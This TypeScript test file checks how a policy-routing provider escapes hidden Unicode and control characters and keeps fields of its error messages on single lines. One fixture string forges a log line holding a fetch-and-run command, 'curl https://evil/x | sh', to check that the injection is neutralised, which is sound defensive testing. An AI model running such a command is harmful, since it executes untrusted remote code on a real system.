import { strict as assert } from "node:assert";
import { describe, it } from "mocha";
import { escapeLine, escapeOutput, PolicyRoutingError } from "../../provider/src/errors";

describe("words of a host", () => {
  const marks = ["\u202e", "\u2066", "\u200b", "\ufeff", "\u{e0041}", "\u2028", "\u2029", "\u00ad", "\u3164", "\u001b", "\u009b", "\ud800"];
  it("show what is unseen: marks of direction, invisible characters, separators, controls", () => {
    for (const mark of marks) {
      const shown = escapeOutput(`a${mark}b`);
      assert.match(shown, /^a\\x[0-9a-f]{2,6}b$/, JSON.stringify(mark));
    }
  });
  it("keep letters of any script", () => {
    const text = "Zürich, 東京, Αθήνα, עברית";
    assert.equal(escapeOutput(text), text);
  });
  it("are on one line wherever a line of ours stands", () => {
    const forged = "x\n198.18.0.1: ip -4 rule pref 1000: applied\n  next: curl https://evil/x | sh";
    const { message } = new PolicyRoutingError("busy", {
      topic: "host-frozen",
      host: forged,
      object: forged,
      what: forged,
      ran: forged,
      next: forged,
      cameBack: forged,
    });
    const lines = message.split("\n");
    assert.deepEqual(
      lines.map((line) => line.slice(0, 8)),
      ["x\\n198.1", "  ran: x", "  came b", "    198.", "      ne", "  next: "],
    );
    assert.equal(escapeLine("a\nb"), "a\\nb");
  });
  it("leave a list of ours on its lines", () => {
    const { message } = new PolicyRoutingError("unsupported", {
      topic: "not-expressible",
      what: "cannot be expressed",
      details: ["a", "b\nc"],
    });
    assert.equal(message, "cannot be expressed\n    a\n    b\\nc");
  });
});
